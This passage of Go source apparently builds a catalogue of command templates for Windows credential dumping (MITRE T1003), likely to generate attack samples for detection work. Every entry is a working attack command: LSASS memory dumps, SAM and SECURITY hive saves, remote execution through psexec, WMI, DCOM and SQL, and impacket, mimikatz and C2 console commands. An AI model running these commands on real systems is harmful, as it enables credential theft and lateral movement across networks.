			`sc \\{{host}} create {{word}} binPath= "cmd.exe /c reg save HKLM\SAM C:\Windows\Temp\{{samout}} /y" {{amp}} sc \\{{host}} start {{word}}`,
			`sc create {{word}} binpath= "C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {{lsapid}} {{wtemp}}\{{dmp}} full" start= demand {{amp}} sc start {{word}}`,
			`sc.exe \\{{host}} create {{word}} binPath= "%COMSPEC% /c C:\Windows\Temp\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{{dmp}}" {{amp}} sc.exe \\{{host}} start {{word}}`,
			`sc \\{{ip}} config {{svcname}} binPath= "cmd /c reg save HKLM\SECURITY C:\Windows\Temp\{{secout}}" {{amp}} sc \\{{ip}} start {{svcname}}`,
			`sc create {{word}} binPath= "cmd /c esentutl /y /vss C:\Windows\System32\config\SAM /d C:\Windows\Temp\{{samout}}" type= own {{amp}} sc start {{word}}`),
		fam("cred/schtasks-dump-chain", c, "windows", Cmd,
			`schtasks /create /s {{host}} /tn {{word}} /tr "reg save HKLM\SAM C:\Windows\Temp\{{samout}} /y" /sc once /st 00:00 /ru SYSTEM /f {{amp}} schtasks /run /s {{host}} /tn {{word}}`,
			`schtasks /create /tn "{{taskname}}" /tr "rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump {{lsapid}} {{wtemp}}\{{dmp}} full" /sc onstart /ru SYSTEM {{amp}} schtasks /run /tn "{{taskname}}"`,
			`schtasks /create /tn {{word}} /tr "C:\Windows\Temp\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{{dmp}}" /sc once /st {{time}} /ru SYSTEM /f`,
			`at \\{{host}} {{time}} "reg save HKLM\SAM C:\Windows\Temp\{{samout}}"`,
			`schtasks /create /s {{ip}} /u {{domain}}\{{user}} /p {{pass}} /tn {{word}} /tr "cmd /c reg save HKLM\SYSTEM C:\Windows\Temp\{{sysout}} & reg save HKLM\SAM C:\Windows\Temp\{{samout}}" /sc once /st 23:59 /ru SYSTEM {{amp}} schtasks /run /s {{ip}} /tn {{word}}`),
		fam("cred/ps-scheduledtask-dump", c, "windows", PS,
			`$a = New-ScheduledTaskAction -Execute rundll32.exe -Argument "C:\Windows\System32\comsvcs.dll, MiniDump {{lsapid}} {{pstemp}}\{{dmp}} full"; Register-ScheduledTask -TaskName {{word}} -Action $a -User SYSTEM -Force; Start-ScheduledTask -TaskName {{word}}`,
			`$a = New-ScheduledTaskAction -Execute 'reg.exe' -Argument 'save HKLM\SAM C:\Windows\Temp\{{samout}} /y'; Register-ScheduledTask {{word}} -Action $a -Principal (New-ScheduledTaskPrincipal -UserId 'NT AUTHORITY\SYSTEM' -RunLevel Highest) -CimSession {{host}}; Start-ScheduledTask {{word}} -CimSession {{host}}`,
			`Register-ScheduledTask -TaskName {{word}} -Action (New-ScheduledTaskAction -Execute 'C:\Windows\Temp\procdump64.exe' -Argument '-accepteula -ma lsass.exe C:\Windows\Temp\{{dmp}}') -User 'NT AUTHORITY\SYSTEM' -Force | Start-ScheduledTask`,
			`$t = New-ScheduledTaskAction -Execute cmd.exe -Argument '/c reg save HKLM\SECURITY C:\Windows\Temp\{{secout}}'; Register-ScheduledTask {{word}} -Action $t -User SYSTEM -Trigger (New-ScheduledTaskTrigger -Once -At (Get-Date).AddMinutes(1))`),
		fam("cred/psexec-direct-dump", c, "windows", Cmd,
			`psexec{{|64}}{{|.exe}} -accepteula \\{{host}} -s reg save HKLM\SAM C:\Windows\Temp\{{samout}} /y`,
			`psexec \\{{host}} -u {{domain}}\{{user}} -p {{pass}} -s -c procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{{dmp}}`,
			`PsExec64.exe \\{{host}} -s -d rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump {{lsapid}} C:\Windows\Temp\{{dmp}} full`,
			`psexec \\{{host}} -s -c {{wtemp}}\mimikatz.exe "privilege::debug" "{{crkcmd}}" exit`,
			`paexec \\{{host}} -s -c {{wtemp}}\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{{dmp}}`,
			`psexec -accepteula -s \\{{ip}} -u {{user}} -p {{pass}} reg save HKLM\SYSTEM \\{{ip}}\c$\Windows\Temp\{{sysout}}`,
			`csexec.exe \\{{host}} reg save HKLM\SECURITY C:\Windows\Temp\{{secout}}`),
		fam("cred/ps-remote-session-dump", c, "windows", PS,
			`$s = New-PSSession -ComputerName {{host}}{{| -Credential $cred}}; Invoke-Command -Session $s -ScriptBlock { rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\Windows\Temp\{{dmp}} full }; Copy-Item -FromSession $s C:\Windows\Temp\{{dmp}} -Destination {{pstemp}}\{{dmp}}`,
			`$s = New-PSSession {{host}}; Copy-Item {{pstemp}}\procdump64.exe -ToSession $s -Destination C:\Windows\Temp\; Invoke-Command $s { C:\Windows\Temp\procdump64.exe -accepteula -ma lsass C:\Windows\Temp\{{dmp}} }`,
			`Invoke-Command -ComputerName {{host}} -ScriptBlock { reg save HKLM\SAM C:\Windows\Temp\{{samout}} /y; reg save HKLM\SYSTEM C:\Windows\Temp\{{sysout}} /y }; Copy-Item \\{{host}}\C$\Windows\Temp\{{samout}} {{pstemp}}`,
			`Invoke-Command -ComputerName (Get-Content {{pstemp}}\hosts.txt) -ScriptBlock { rundll32 comsvcs.dll, MiniDump (gps lsass).Id "C:\Windows\Temp\$env:COMPUTERNAME.dmp" full } -ThrottleLimit {{n}}`,
			`$s = New-PSSession -ComputerName {{host}}; Invoke-Command -Session $s { esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\Windows\Temp\{{samout}} }; Copy-Item -FromSession $s C:\Windows\Temp\{{samout}} {{pstemp}}\`),
		fam("cred/wmic-remote-dump-chain", c, "windows", Cmd,
			`wmic /node:{{host}} process call create "cmd /c reg save HKLM\SAM C:\Windows\Temp\{{samout}} /y" {{amp}} copy \\{{host}}\C$\Windows\Temp\{{samout}} {{wtemp}}\`,
			`wmic /node:"{{host}}" /user:"{{domain}}\{{user}}" /password:"{{pass}}" process call create "rundll32 C:\Windows\System32\comsvcs.dll MiniDump {{lsapid}} C:\Windows\Temp\{{dmp}} full"`,
			`wmic /node:{{ip}} process where name="lsass.exe" get processid {{amp}} wmic /node:{{ip}} process call create "rundll32.exe comsvcs.dll, MiniDump {{lsapid}} C:\Windows\Temp\{{dmp}} full"`,
			`wmic /node:@{{word}}.txt process call create "cmd /c C:\Windows\Temp\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{{dmp}}"`,
			`wmic /node:{{host}} process call create "esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\Windows\Temp\{{samout}}" {{amp}} move \\{{host}}\c$\Windows\Temp\{{samout}} {{wtemp}}\{{host}}_{{samout}}`),
		fam("cred/xp-cmdshell-dump", c, "windows", Cmd,
			`sqlcmd -S {{host}} -E -Q "EXEC xp_cmdshell 'reg save HKLM\SAM C:\Windows\Temp\{{samout}} /y'"`,
			`sqlcmd -S {{host}} -U sa -P {{pass}} -Q "xp_cmdshell 'rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {{lsapid}} C:\Windows\Temp\{{dmp}} full'"`,
			`osql -E -S {{host}} -Q "exec master..xp_cmdshell 'C:\Windows\Temp\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{{dmp}}'"`,
			`sqlcmd -S {{ip}} -U {{user}} -P {{pass}} -Q "EXEC master.dbo.xp_cmdshell 'reg save HKLM\SYSTEM C:\Windows\Temp\{{sysout}}'"`,
			`sqlcmd -E -S {{host}}\SQLEXPRESS -Q "EXEC xp_cmdshell 'esentutl /y /vss C:\Windows\System32\config\SAM /d C:\Windows\Temp\{{samout}}'"`),
		fam("cred/sql-console-dump", c, "windows", Raw,
			`SQL> xp_cmdshell reg save HKLM\SAM C:\Windows\Temp\{{samout}}`,
			`SQL ({{domain}}\{{user}}  dbo@master)> xp_cmdshell "reg save HKLM\SYSTEM C:\Windows\Temp\{{sysout}}"`,
			`SQL> EXEC xp_cmdshell 'rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {{lsapid}} C:\Windows\Temp\{{dmp}} full';`,
			`EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE; EXEC xp_cmdshell 'reg save HKLM\SECURITY C:\Windows\Temp\{{secout}} /y';`,
			`SQL (sa  dbo@master)> xp_cmdshell C:\Windows\Temp\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{{dmp}}`),
		fam("cred/dcom-exec-dump", c, "windows", PS,
			`$c = [activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","{{host}}")); $c.Document.ActiveView.ExecuteShellCommand("cmd.exe",$null,"/c reg save HKLM\SAM C:\Windows\Temp\{{samout}} /y","7")`,
			`[System.Activator]::CreateInstance([Type]::GetTypeFromCLSID([Guid]"9BA05972-F6A8-11CF-A442-00A0C90A8F39","{{host}}")).Item().Document.Application.ShellExecute("rundll32.exe","C:\Windows\System32\comsvcs.dll, MiniDump {{lsapid}} C:\Windows\Temp\{{dmp}} full","C:\Windows\System32",$null,0)`,
			`$o = [activator]::CreateInstance([type]::GetTypeFromCLSID("C08AFD90-F2A1-11D1-8455-00A0C91F3880","{{host}}")); $o.Document.Application.ShellExecute("cmd.exe","/c C:\Windows\Temp\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{{dmp}}","C:\Windows\System32",$null,0)`,
			`$m = [Activator]::CreateInstance([Type]::GetTypeFromProgID('MMC20.Application.1','{{ip}}')); $m.Document.ActiveView.ExecuteShellCommand('reg.exe',$null,'save HKLM\SYSTEM C:\Windows\Temp\{{sysout}} /y','7')`),
		fam("cred/evil-winrm-console-dumps", c, "windows", Raw,
			`*Evil-WinRM* PS C:\Users\{{user}}\Documents> reg save hklm\{{sam|system|security}} {{samout}}`,
			`*Evil-WinRM* PS C:\Users\{{user}}\Documents> download {{crhivef}}`,
			`*Evil-WinRM* PS C:\temp> .\procdump64.exe -accepteula -ma lsass.exe {{dmp}}`,
			`*Evil-WinRM* PS C:\Users\{{user}}\Documents> robocopy /b C:\Windows\System32\config C:\temp SAM SYSTEM`,
			`*Evil-WinRM* PS C:\> rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\temp\{{dmp}} full`,
			`*Evil-WinRM* PS C:\Users\{{user}}\Documents> Invoke-Mimikatz -Command '"{{crkcmd}}"'`,
			`*Evil-WinRM* PS C:\Users\{{user}}\Documents> Copy-FileSeBackupPrivilege C:\Windows\System32\config\SAM C:\Users\{{user}}\Documents\{{samout}}`),
		fam("cred/meterpreter-shell-dumps", c, "windows", Raw,
			`meterpreter > execute -H -f rundll32.exe -a "C:\\windows\\System32\\comsvcs.dll, MiniDump {{lsapid}} C:\\Windows\\Temp\\{{dmp}} full"`,
			`execute -f procdump64.exe -a "-accepteula -ma lsass.exe C:\\Windows\\Temp\\{{dmp}}"`,
			`meterpreter > download C:\\Windows\\Temp\\{{crhivef}} {{crloot}}/`,
			`meterpreter > shell -c "reg save HKLM\\SAM C:\\Windows\\Temp\\{{samout}}"`,
			`execute -H -i -f cmd.exe -a "/c reg save HKLM\\SYSTEM C:\\Windows\\Temp\\{{sysout}} /y"`,
			`meterpreter > execute -H -f C:\\Windows\\Temp\\{{rndexe}} -a "--write C:\\Windows\\Temp\\{{dmp}} --valid"`),
	}
}

// credMoreRemote covers tools run from an attacker host against Windows
// targets (impacket, netexec, lsassy, pypykatz smb) and memory forensics
// aimed at credentials.
func credMoreRemote() []Family {
	c := T1003
	return []Family{
		fam("cred/secretsdump-remote-options", c, "any", Sh,
			`{{secretsdump}} {{crimp}} -target-ip {{ip}} -outputfile {{crloot}}/{{host}}`,
			`{{secretsdump}} -k -no-pass -dc-ip {{ip}} {{domain}}/{{user}}@{{host}}`,
			`{{secretsdump}} -aesKey {{hex32}}{{hex32}} {{domain}}/{{user}}@{{host}}`,
			`KRB5CCNAME={{user}}.ccache {{secretsdump}} -k -no-pass {{host}}.{{domain}}`,
			`{{secretsdump}} {{crimp}} -port 445{{| -debug| -ts}}`,
			`for h in $(cat {{word}}.txt); do {{secretsdump}} '{{domain}}/{{user}}:{{pass}}'@$h -outputfile {{crloot}}/$h; done`,
			`{{secretsdump}} -hashes :{{hex32}} 'administrator'@{{ip}} -outputfile {{crloot}}/{{word}}`,
			`proxychains4 -q {{secretsdump}} {{crimp}}`),
		fam("cred/secretsdump-windows-exe", c, "windows", Cmd,
			`secretsdump.exe -sam {{wtemp}}\{{samout}} -system {{wtemp}}\{{sysout}} LOCAL`,
			`secretsdump_windows.exe {{domain}}/{{user}}:{{pass}}@{{ip}}`,
			`python.exe C:\Tools\impacket\examples\secretsdump.py -sam {{wtemp}}\{{samout}} -system {{wtemp}}\{{sysout}} -security {{wtemp}}\{{secout}} LOCAL`,
			`py -3 secretsdump.py ./{{user}}:{{pass}}@{{ip}}`,
			`{{wtemp}}\{{rndexe}} -system {{wtemp}}\{{sysout}} -security {{wtemp}}\{{secout}} LOCAL`,
			`secretsdump.exe -hashes :{{hex32}} {{domain}}/{{user}}@{{host}}`),
		fam("cred/regsecrets-py", c, "any", Sh,
			`regsecrets.py {{crimp}}`,
			`impacket-regsecrets {{crimp}} -outputfile {{crloot}}/{{host}}`,
			`python3 regsecrets.py -k -no-pass {{domain}}/{{user}}@{{host}}`,
			`regsecrets.py {{crimp}} -history`,
			`impacket-regsecrets -hashes :{{hex32}} administrator@{{ip}}`),
		fam("cred/pypykatz-smb-remote", c, "any", Sh,
			`pypykatz smb lsassdump '{{crsmburl}}'`,
			`pypykatz smb regdump '{{crsmburl}}'`,
			`pypykatz smb secretsdump '{{crsmburl}}'`,
			`pypykatz smb lsassdump -m {{task|service}} '{{crsmburl}}'`,
			`pypykatz smb regdump '{{crsmburl}}' -o {{crloot}}/{{host}}.txt`,
			`pypykatz smb lsassdump --json -o {{crloot}}/{{word}}.json '{{crsmburl}}'`),
		fam("cred/lsassy-options", c, "any", Sh,
			`lsassy -u {{user}} -p '{{pass}}' -d {{domain}} {{target}} --dump-path '\Windows\Temp' --dump-name {{word}}.dmp`,
			`lsassy -k {{host}}.{{domain}}{{| -m nanodump}}`,
			`lsassy {{creds}} {{target}} -m procdump -O procdump_path=/opt/procdump64.exe`,
			`lsassy {{creds}} {{target}} -m nanodump -O nanodump_path=/opt/nanodump.exe`,
			`lsassy {{creds}} {{target}} --exec {{smb|wmi|task|mmc}}`,
			`lsassy {{creds}} {{target}} -K {{crloot}}/tickets`,
			`lsassy {{creds}} {{target}} --format {{json|grep|pretty|table}} -o {{crloot}}/{{host}}.json`,
			`lsassy -v {{creds}} {{target}} --threads {{n}}0 --timeout 5`,
			`lsassy {{creds}} {{target}} -m dumpert -O dumpert_path=/opt/Outflank-Dumpert.exe`),
		fam("cred/nxc-lsass-modules", c, "any", Sh,
			`{{cme}} smb {{target}} {{creds}} -M lsassy -o METHOD={{comsvcs|nanodump|rdrleakdiag|procdump}}`,
			`{{cme}} smb {{target}} {{creds}} -M nanodump -o TMP_DIR=C:\\Windows\\Temp\\ NANO_EXE_NAME={{rndexe}}`,
			`{{cme}} smb {{target}} {{creds}} -M procdump -o PROCDUMP_PATH=/opt/procdump64.exe`,
			`{{cme}} smb {{target}} {{creds}} -M handlekatz -o HANDLEKATZ_EXE_NAME={{rndexe}}`,
			`{{cme}} smb {{target}} {{creds}} -M mimikatz -o COMMAND='privilege::debug lsadump::sam'`,
			`{{cme}} smb {{target}} {{creds}} -M mimikatz -o COMMAND='{{crkcmd}}'`,
			`{{cme}} smb {{target}} -u {{user}} -H {{hex32}} --local-auth -M lsassy`,
			`{{cme}} smb {{target}} {{creds}} -M nanodump -o DIR_RESULT={{crloot}}`),
		fam("cred/nxc-sam-lsa-variants", c, "any", Sh,
			`{{cme}} smb {{target}} {{creds}} --sam {{secdump|regdump}}`,
			`{{cme}} smb {{target}} {{creds}} --lsa {{secdump|regdump}}`,
			`{{cme}} smb {{target}} {{creds}} --sam --lsa`,
			`{{cme}} smb {{target}} -k --use-kcache --sam`,
			`{{cme}} smb {{target}} {{creds}} --sam --continue-on-success --log {{crloot}}/{{host}}.log`,
			`{{cme}} smb {{target}} -u {{user}} -p {{pass}} --local-auth --lsa`,
			`{{cme}} winrm {{target}} {{creds}} --{{sam|lsa}}`,
			`{{cme}} smb {{target}} -u {{user}} -H {{hex32}} --sam --lsa --no-bruteforce`),
		fam("cred/smb-pull-credential-dumps", c, "any", Sh,
			`smbclient //{{ip}}/{{C$|ADMIN$}} -U '{{domain}}/{{user}}%{{pass}}' -c 'get Windows\Temp\{{crhivef}}'`,
			`smbget -U {{user}}%{{pass}} smb://{{ip}}/C$/Windows/Temp/{{crhivef}}`,
			`{{cme}} smb {{ip}} {{creds}} --get-file \\Windows\\Temp\\{{crhivef}} {{crloot}}/{{crhivef}}`,
			`smbclient.py {{crimp}} <<< $'use C$\nget Windows\\Temp\\{{crhivef}}'`,
			`smbclient //{{host}}/c$ -U {{user}}%'{{pass}}' -c 'cd Windows\Temp; mget sam.save system.save security.save'`,
			`{{cme}} smb {{ip}} {{creds}} -x "reg save HKLM\SAM C:\Windows\Temp\sam.save" && {{cme}} smb {{ip}} {{creds}} --get-file \\Windows\\Temp\\sam.save sam.save`),
		fam("cred/spraykatz", c, "any", Sh,
			`python3 spraykatz.py -u {{user}} -p '{{pass}}' -t {{target}}`,
			`./spraykatz.py -u {{user}} -H {{hex32}} -t {{target}} -d {{domain}}`,
			`spraykatz.py -u {{user}} -p {{pass}} -d {{domain}} -t {{ip}} -v {{warning|debug|info}}`,
			`python3 spraykatz.py -u {{user}} -p '{{pass}}' -d {{domain}} -t {{word}}.txt -w 10`),
		fam("cred/physmem2profit-variants", c, "any", Sh,
			`python3 physmem2profit --host {{ip}} --port {{port}} --mode all --driver winpmem --install 'C:\Windows\Temp\winpmem_x64.sys' --label {{word}}`,
			`physmem2profit --host {{ip}} --port {{port}} --mode dump --driver winpmem --label {{host}}`,
			`python3 physmem2profit --host {{ip}} --port {{port}} --mode all --driver winpmem --label {{host}} && pypykatz lsa minidump output/{{host}}-*-lsass.dmp`,
			`python3 physmem2profit --host {{ip}} --mode all --driver winpmem --install 'C:\ProgramData\{{word}}.sys' --label {{word}} --verbose`),
		fam("cred/physmem2profit-server", c, "windows", Cmd,
			`Physmem2profit.exe --ip {{ip}} --port {{port}} --hidden`,
			`{{wtemp}}\Physmem2profit.exe --ip 0.0.0.0 --port {{port}} --verbose`,
			`{{wtemp}}\{{rndexe}} --ip {{ip}} --port {{port}} --hidden & sc create winpmem binPath= {{wtemp}}\winpmem_x64.sys type= kernel`,
			`Physmem2profit.exe --ip {{ip}} --port {{port}}`),
		fam("cred/volatility-hashdump", c, "any", Sh,
			`{{crvol}} -f {{crmem}} windows.hashdump{{| > {{crloot}}/hashes.txt}}`,
			`{{crvol}} -f {{crmem}} windows.lsadump{{| -r csv}}`,
			`{{crvol}} -f {{crmem}} windows.cachedump`,
			`vol.py -f {{crmem}} --profile={{crmsfprof}} hashdump`,
			`vol.py -f {{crmem}} --profile={{crmsfprof}} lsadump`,
			`volatility -f {{crmem}} --profile={{crmsfprof}} mimikatz`,
			`vol.py -f {{crmem}} --profile={{crmsfprof}} hashdump -y 0x{{hex8}} -s 0x{{hex8}}`,
			`{{crvol}} -f {{crmem}} windows.registry.hivelist && {{crvol}} -f {{crmem}} windows.hashdump`,
			`{{crvol}} -f {{crmem}} -o {{crloot}} windows.registry.hivelist --dump --filter SAM`),
		fam("cred/volatility-lsass-extract", c, "any", Sh,
			`{{crvol}} -f {{crmem}} -o {{crloot}} windows.memmap --pid $({{crvol}} -f {{crmem}} windows.pslist | grep -i lsass | awk '{print $1}') --dump`,
			`vol.py -f {{crmem}} --profile={{crmsfprof}} memdump -p {{lsapid}} -D {{crloot}} && pypykatz lsa minidump {{crloot}}/{{lsapid}}.dmp`,
			`{{crvol}} -f {{crmem}} windows.pslist --pid {{lsapid}} --dump && pypykatz lsa minidump pid.{{lsapid}}.dmp`,
			`pypykatz rekall {{crmem}}{{| -t {{msv|wdigest|all}}}}`,
			`vol.py -f {{crmem}} --profile={{crmsfprof}} memdump -n lsass.exe -D {{crloot}}`,
			`{{crvol}} -f {{crmem}} -o {{crloot}} windows.pslist --dump --pid $(vol -f {{crmem}} windows.pslist | awk '/lsass/{print $1}')`),
		fam("cred/memprocfs-lsass", c, "windows", Cmd,
			`MemProcFS.exe -device {{wtemp}}\{{crmem}} -forensic 1 {{amp}} copy M:\name\lsass.exe-{{lsapid}}\minidump\minidump.dmp {{wtemp}}\{{dmp}}`,
			`memprocfs.exe -device pmem {{amp}} copy M:\name\lsass.exe-{{lsapid}}\minidump\minidump.dmp {{wtemp}}\{{dmp}}`,
			`copy M:\name\lsass.exe-{{lsapid}}\minidump\minidump.dmp {{wtemp}}\{{lsadmp}}`,
			`pypykatz lsa minidump M:\name\lsass.exe-{{lsapid}}\minidump\minidump.dmp`,
			`MemProcFS.exe -device pmem -mount {{crdrive}} {{amp}} pypykatz lsa minidump {{crdrive}}:\name\lsass.exe-{{lsapid}}\minidump\minidump.dmp`,
			`MemProcFS.exe -device {{crmem}} -mount Q & type Q:\name\lsass.exe-{{lsapid}}\minidump\minidump.dmp > {{wtemp}}\{{dmp}}`),
		fam("cred/memprocfs-lsass-linux", c, "linux", Sh,
			`./memprocfs -device {{crmem}} -mount /mnt/{{word}} && pypykatz lsa minidump /mnt/{{word}}/name/lsass.exe-*/minidump/minidump.dmp`,
			`cp /mnt/{{word}}/name/lsass.exe-{{lsapid}}/minidump/minidump.dmp {{crloot}}/{{dmp}}`,
			`memprocfs -device {{crmem}} -forensic 1 -mount /mnt/mem; pypykatz lsa minidump /mnt/mem/name/lsass.exe-{{lsapid}}/minidump/minidump.dmp`,
			`python3 -m pypykatz lsa minidump /mnt/mem/name/lsass.exe-{{lsapid}}/minidump/minidump.dmp -o {{crloot}}/{{word}}.txt`),
		fam("cred/memory-acquire-then-parse", c, "windows", Cmd,
			`winpmem_mini_x64_rc2.exe {{wtemp}}\{{crmem}} {{amp}} vol.exe -f {{wtemp}}\{{crmem}} windows.hashdump`,
			`winpmem.exe -o {{wtemp}}\{{crmem}} --format raw {{amp}} pypykatz rekall {{wtemp}}\{{crmem}}`,
			`DumpIt.exe /O {{wtemp}}\{{crmem}} /Q {{amp}} volatility3 -f {{wtemp}}\{{crmem}} windows.lsadump`,
			`winpmem_x64.exe {{wtemp}}\{{crmem}} & vol.exe -f {{wtemp}}\{{crmem}} windows.cachedump > {{wtemp}}\{{word}}.txt`,
			`Hibr2Bin.exe /PLATFORM X64 /MAJOR 10 /MINOR 0 /INPUT C:\hiberfil.sys /OUTPUT {{wtemp}}\{{crmem}} & vol.exe -f {{wtemp}}\{{crmem}} windows.hashdump`),
		fam("cred/hive-parse-windows-tools", c, "windows", Cmd,
			`pypykatz.exe registry --sam {{wtemp}}\{{samout}} {{wtemp}}\{{sysout}}{{| --security {{wtemp}}\{{secout}}}}`,
			`samdump2.exe {{wtemp}}\{{sysout}} {{wtemp}}\{{samout}}`,
			`{{mimikatz}} "lsadump::sam /system:{{sysout}} /sam:{{samout}}" exit > {{wtemp}}\{{word}}.txt`,
			`creddump7\pwdump.py {{wtemp}}\{{sysout}} {{wtemp}}\{{samout}}`,
			`python.exe lsadump.py {{wtemp}}\{{sysout}} {{wtemp}}\{{secout}}`,
			`cachedump.py {{wtemp}}\{{sysout}} {{wtemp}}\{{secout}} true`),
		fam("cred/sharpsecdump-variants", c, "windows", Cmd,
			`SharpSecDump.exe -target={{host}},{{host2}} -u={{user}} -p={{pass}} -d={{domain}}{{| -threads={{n}}}}`,
			`SharpSecDump.exe -target=127.0.0.1`,
			`.\SharpSecDump.exe -target={{ip}}`,
			`{{wtemp}}\SharpSecDump.exe -target={{host}} > {{wtemp}}\{{word}}.txt`,
			`SharpSecDump.exe -target={{word}}.txt -threads={{n}}`),
		fam("cred/legacy-lsa-dumpers", c, "windows", Cmd,
			`LSASecretsDump.exe /stext {{wtemp}}\{{word}}.txt`,
			`LSASecretsView.exe /scomma {{wtemp}}\{{word}}.csv`,
			`lsadump2.exe > {{wtemp}}\{{word}}.txt`,
			`PwDump6.exe -o {{wtemp}}\{{word}}.txt {{host}}`,
			`pwdump3.exe \\{{host}} {{wtemp}}\{{word}}.txt {{user}}`,
			`pwdump2.exe {{lsapid}} > {{wtemp}}\{{word}}.txt`,
			`pwdump7.exe -s {{wtemp}}\{{samout}} {{wtemp}}\{{sysout}}`,
			`gsecdump.exe -a > \\{{ip}}\{{crshare}}\{{host}}.txt`),
		fam("cred/msf-console-secretsdump", c, "any", Sh,
			`msfconsole -q -x "use auxiliary/scanner/smb/impacket/secretsdump; set RHOSTS {{ip}}; set SMBUser {{user}}; set SMBPass {{pass}}; run; exit"`,
			`msfconsole -q -x "use post/windows/gather/hashdump; set SESSION {{n}}; run"`,
			`msfconsole -q -x "use auxiliary/gather/windows_secrets_dump; set RHOSTS {{ip}}; set SMBUser {{user}}; set SMBPass {{pass}}; set ACTION {{SAM|LSA|CACHE}}; run"`,
			`msfconsole -x "use post/windows/gather/lsa_secrets; set SESSION {{n}}; run; exit -y"`,
			`msfconsole -q -x "use post/windows/gather/cachedump; set SESSION {{n}}; run"`),
	}
}

// credMoreC2 covers commands typed into C2 and post-exploitation consoles.
func credMoreC2() []Family {
	c := T1003
	return []Family{
		fam("cred/kiwi-meterpreter", c, "windows", Raw,
			`{{|meterpreter > }}load kiwi`,
			`{{|meterpreter > }}creds_{{msv|wdigest|kerberos|tspkg|ssp|livessp|all}}`,
			`{{|meterpreter > }}lsa_dump_{{sam|secrets}}`,
			`{{|meterpreter > }}kiwi_cmd "{{crkcmd}}"`,
			`{{|meterpreter > }}kiwi_cmd lsadump::cache`,
			`{{|meterpreter > }}load mimikatz`,
			`{{|meterpreter > }}mimikatz_command -f {{sekurlsa::logonPasswords|samdump::hashes|sekurlsa::wdigest}}`,
			`{{|meterpreter > }}{{msv|wdigest|kerberos}}`,
			`{{|meterpreter > }}kiwi_cmd "sekurlsa::minidump C:\\Windows\\Temp\\{{dmp}}" "sekurlsa::logonpasswords"`),
		fam("cred/meterpreter-post-modules", c, "windows", Raw,
			`{{|meterpreter > }}run post/windows/gather/cachedump`,
			`{{|meterpreter > }}run post/windows/gather/lsa_secrets`,
			`use post/windows/gather/hashdump{{amp}} set SESSION {{n}}{{amp}} run`,
			`msf6 post(windows/gather/{{hashdump|smart_hashdump|cachedump|lsa_secrets}}) > run`,
			`sessions -i {{n}} -c "hashdump"`,
			`{{|meterpreter > }}run post/windows/gather/credentials/sso`,
			`msf6 > use post/windows/gather/{{hashdump|cachedump|lsa_secrets}}`,
			`{{|meterpreter > }}run post/windows/gather/cachedump SESSION={{n}}`,
			`msf6 post(windows/gather/smart_hashdump) > set SESSION {{n}}`),
		fam("cred/empire-modules", c, "windows", Raw,
			`{{|(Empire: {{cragent}}) > }}usemodule powershell/credentials/mimikatz/{{logonpasswords|sam|lsadump|cache|command}}`,
			`{{|(Empire: {{cragent}}) > }}usemodule powershell/collection/minidump`,
			`{{|(Empire: powershell/collection/minidump) > }}set ProcessName lsass`,
			`{{|(Empire: {{cragent}}) > }}usemodule powershell/credentials/powerdump`,
			`{{|(Empire: {{cragent}}) > }}mimikatz`,
			`{{|(Empire: {{cragent}}) > }}usemodule credentials/mimikatz/{{logonpasswords|sam|lsadump|cache}}`,
			`(Empire: powershell/credentials/mimikatz/command) > set Command {{crkcmd}}`,
			`{{|(Empire: {{cragent}}) > }}usemodule csharp/SharpSploit.Credentials/Mimikatz`,
			`{{|(Empire: {{cragent}}) > }}usemodule powershell/credentials/mimikatz/logonpasswords{{amp}} execute`),
		fam("cred/sliver-armory-extensions", c, "windows", Raw,
			`{{|sliver ({{crimplant}}) > }}nanodump {{lsapid}} {{dmp}} 1 PMDM`,
			`{{|sliver ({{crimplant}}) > }}procdump -p {{lsapid}} -s {{lsadmp}}`,
			`{{|sliver ({{crimplant}}) > }}procdump --name lsass.exe --save {{crloot}}/{{host}}.dmp`,
			`{{|sliver ({{crimplant}}) > }}hashdump`,
			`{{|sliver ({{crimplant}}) > }}execute-assembly -t {{60|120|300}} {{crloot}}/SharpKatz.exe --Command {{logonpasswords|ekeys|msv}}`,
			`{{|sliver ({{crimplant}}) > }}mimikatz "{{crkcmd}}"`,
			`{{|sliver ({{crimplant}}) > }}sharpsecdump -- -target={{host}}`,
			`{{|sliver ({{crimplant}}) > }}execute-assembly {{crloot}}/SharpDump.exe {{lsapid}}`,
			`{{|sliver ({{crimplant}}) > }}sideload {{crloot}}/mimikatz.dll "privilege::debug {{crkcmd}} exit"`),
		fam("cred/beacon-dumps", c, "windows", Raw,
			`{{|beacon> }}mimikatz !lsadump::{{sam|cache|secrets}}`,
			`{{|beacon> }}mimikatz !sekurlsa::{{ekeys|msv|wdigest|logonpasswords}}`,
			`{{|beacon> }}mimikatz @lsadump::sam`,
			`{{|beacon> }}execute-assembly {{wtemp}}\{{SafetyKatz|BetterSafetyKatz|SharpKatz|SharpDump}}.exe`,
			`{{|beacon> }}powerpick Invoke-Mimikatz -Command '"{{crkcmd}}"'`,
			`{{|beacon> }}nanodump --fork --write C:\Windows\Temp\{{dmp}}{{| --valid}}`,
			`{{|beacon> }}shell rundll32 comsvcs.dll, MiniDump {{lsapid}} C:\Windows\Temp\{{dmp}} full`,
			`{{|beacon> }}run reg save hklm\{{sam|system|security}} C:\Windows\Temp\{{samout}}`,
			`{{|beacon> }}execute-assembly {{wtemp}}\SharpSecDump.exe -target={{host}}`,
			`{{|beacon> }}logonpasswords`,
